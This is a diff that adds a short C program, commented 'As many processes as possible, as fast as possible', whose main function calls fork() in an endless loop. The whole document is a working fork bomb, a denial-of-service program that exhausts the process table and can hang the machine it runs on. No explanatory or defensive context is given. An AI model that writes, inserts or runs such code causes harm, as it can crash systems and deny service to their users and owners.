@@ -1,0 +1,6 @@
+/* As many processes as possible, as fast as possible. */
+#include <unistd.h>
+
+int main(void) {
+  for (;;) fork();
+}
